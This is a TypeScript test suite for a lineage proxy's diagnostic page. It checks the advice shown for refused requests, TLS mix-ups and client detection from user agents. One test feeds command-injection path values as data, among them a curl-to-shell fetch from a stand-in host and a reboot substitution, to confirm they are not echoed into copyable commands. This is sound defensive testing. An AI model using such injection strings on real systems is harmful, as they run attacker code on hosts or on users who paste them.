/** What the page says of a refusal to someone who sees it for the first time. */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { suite, test } from 'node:test';
import { refusal, type Refusal } from '../../src/errors.ts';
import { SETTINGS } from '../../src/page/html/advice.ts';
import { connect } from '../../src/page/html/connect.ts';
import { familyOf } from '../../src/page/refusal-groups.ts';
import { refusals } from '../../src/page/html/refusals.ts';
import { Watch } from '../../src/page/watch.ts';
import { SimulatedTime } from '../support/simulated-time.ts';

/** As the engines send them. */
const TRINO = 'Apache-HttpClient/5.5 (Java/25.0.3)';
const DBT = 'python-requests/2.34.2';

class Scene {
  readonly watch = new Watch(new SimulatedTime());

  refuse(reason: Refusal, { path = '/api/v1/lineage', userAgent = '' } = {}): void {
    const origin = () => ({ method: 'POST', path, client: '192.0.2.7:1', address: '192.0.2.7', userAgent });
    this.watch.requestRefused({ requestId: 'r', origin }, reason);
  }

  get text(): string {
    return refusals(this.watch.refusals.groups, 0)
      .text.replace(/<[^>]*>/g, ' ')
      .replace(/\s+/g, ' ');
  }
}

const pathAdvice = (path: string) => {
  const scene = new Scene();
  scene.refuse(refusal('not_found'), { path, userAgent: TRINO });
  return scene.text;
};

suite('what the page says of a refusal', () => {
  test('leads to the setting of the engine', () => {
    const text = pathAdvice('/api/v1');
    assert.match(text, /unknown, from 192\.0\.2\.7 Java client \(Trino, Spark, Flink, …\)/);
    assert.match(
      text,
      /has a path in its URL, \/api\/v1 , or in its endpoint\. Give it the address without any path/,
    );
    assert.match(
      text,
      /Trino openlineage-event-listener\.transport\.url Spark spark\.openlineage\.transport\.url/,
    );
    assert.doesNotMatch(text, /root-path/);
  });

  test('tells a path too much from a gateway that leads here with a path', () => {
    const doubled = pathAdvice('/api/v1/api/v1/lineage');
    assert.match(doubled, /has \/api\/v1 too much in its URL/);
    assert.doesNotMatch(doubled, /root-path/);
    assert.match(pathAdvice('/base/api/v1/lineage'), /start the proxy with --root-path \/base/);
    // Anyone may have sent a path, and people copy a command.
    for (const path of ['/x;curl${IFS}evil.example|sh', '/$(reboot)', '/a b', '/`id`']) {
      const text = pathAdvice(`${path}/api/v1/lineage`);
      assert.match(text, /too much in its URL/);
      assert.doesNotMatch(text, /root-path/);
    }
  });

  test('tells two kinds of clients apart that have one address', () => {
    const scene = new Scene();
    const wrong = refusal('not_found');
    for (const userAgent of [TRINO, DBT, TRINO]) scene.refuse(wrong, { path: '/x', userAgent });
    // A client can invent any other name: these have one group.
    for (let i = 0; i < 20; i++) scene.refuse(wrong, { path: '/x', userAgent: `invented-${i}` });
    assert.deepEqual(
      scene.watch.refusals.groups.map(({ family, count }) => [family, count]).sort(),
      [
        ['java', 2],
        ['python', 1],
        [undefined, 20],
      ].sort(),
    );
  });

  test('tells https in place of http, and a handshake that failed, from other broken requests', () => {
    const scene = new Scene();
    scene.refuse({ ...refusal('bad_request', 'It speaks TLS'), cause: 'speaks-tls' });
    scene.refuse({ ...refusal('bad_request', 'Its reason'), cause: 'handshake' });
    scene.refuse({ ...refusal('bad_request'), cause: 'speaks-no-tls' });
    scene.refuse({ ...refusal('bad_request'), cause: 'server-certificate' });
    scene.refuse(refusal('bad_request'));
    assert.match(
      scene.text,
      /https in place of http: this port does not speak TLS bad_request Write http:\/\//,
    );
    assert.match(scene.text, /The TLS handshake has failed: no request came bad_request 1 .* Its reason/);
    assert.match(scene.text, /http in place of https: this port speaks TLS bad_request Write https:\/\//);
    assert.match(
      scene.text,
      /does not trust the certificate of this proxy bad_request Give the client the authority/,
    );
    assert.match(scene.text, /Not a readable HTTP request bad_request 1/);
  });

  test('names settings of docs/clients.md', () => {
    const clients = readFileSync(join(import.meta.dirname, '..', '..', 'docs', 'clients.md'), 'utf8');
    const names = Object.values(SETTINGS).flatMap((kinds) => Object.values(kinds).flat());
    assert.ok(names.length > 10);
    for (const [engine, setting] of names) assert.ok(clients.includes(setting), `${engine}: ${setting}`);
  });
});

suite('how to point an engine here', () => {
  const textFor = (address: string) => connect({ address, ways: [] }).text.replace(/\s+/g, ' ');

  test('says that the name of this machine is of no use on another one', () => {
    for (const host of ['localhost', '127.0.0.1', '[::1]']) {
      for (const rest of ['', ':8002', ':8002/base', ':99999']) {
        assert.ok(textFor(`http://${host}${rest}`).includes(`in place of <code>${host}</code>`), host + rest);
      }
    }
    for (const address of ['https://lineage.example.org', 'http://localhost.example.org:8002'])
      assert.ok(!textFor(address).includes('on another machine'), address);
  });
});

suite('the kind of a client', () => {
  test('is known of the programs that engines send with', () => {
    const agents = {
      java: [TRINO, 'Apache-HttpClient/5.6.4 (Java/17.0.15)'],
      python: [DBT, 'python-httpx2/2.16.2', 'python-httpx/0.28.1'],
      go: ['Go-http-client/1.1'],
    };
    for (const [family, names] of Object.entries(agents)) {
      for (const name of names) assert.equal(familyOf(name), family, name);
    }
    for (const other of [undefined, '', 'curl/7.88.1', 'JavaScript'])
      assert.equal(familyOf(other), undefined);
  });
});
